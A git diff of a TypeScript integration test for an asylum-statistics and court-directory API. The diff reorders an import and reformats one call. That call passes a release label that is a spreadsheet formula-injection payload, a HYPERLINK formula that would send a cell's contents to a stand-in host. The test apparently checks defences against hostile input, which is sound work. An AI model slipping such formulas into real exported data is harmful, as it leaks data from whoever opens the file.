@@ -6,13 +6,13 @@ import { after, before, describe, it } from 'node:test';
 import { parse } from 'csv-parse/sync';
 import type { FastifyInstance } from 'fastify';
 import { buildApp } from '../../src/api/app.ts';
+import { importStatistics } from '../../src/asylum/import/load.ts';
 import { loadConfig } from '../../src/config/config.ts';
 import { loadDirectory } from '../../src/courts/directory/load.ts';
 import { syncCourts } from '../../src/courts/directory/sync.ts';
 import type { Database } from '../../src/db/database.ts';
 import { loadKnowledgeBase } from '../../src/guidance/load.ts';
 import { present } from '../../src/shared/present.ts';
-import { importStatistics } from '../../src/asylum/import/load.ts';
 import { ASSETS } from '../helpers/asylum.ts';
 import { ENGINES } from '../helpers/engines.ts';
 
@@ -34,7 +34,9 @@ for (const engine of ENGINES) {
       ({ db, drop } = await engine.create());
       await syncCourts(db, directory);
       // A release label as an operator might type it, or a hostile file might state it.
-      await importStatistics(db, path.join(ASSETS, 'migr_asyappctza_RU_bulk-2024-01-18_tidy.csv.gz'), { release: '=HYPERLINK("http://example.invalid/?"&A1,"open")' });
+      await importStatistics(db, path.join(ASSETS, 'migr_asyappctza_RU_bulk-2024-01-18_tidy.csv.gz'), {
+        release: '=HYPERLINK("http://example.invalid/?"&A1,"open")',
+      });
       app = await buildApp({ config: loadConfig({ OTKAZ_DATA_DIR: '/tmp/otkaz-api-unused', OTKAZ_RATE_LIMIT: '0' }), db, directory, kb });
     });
     after(async () => {
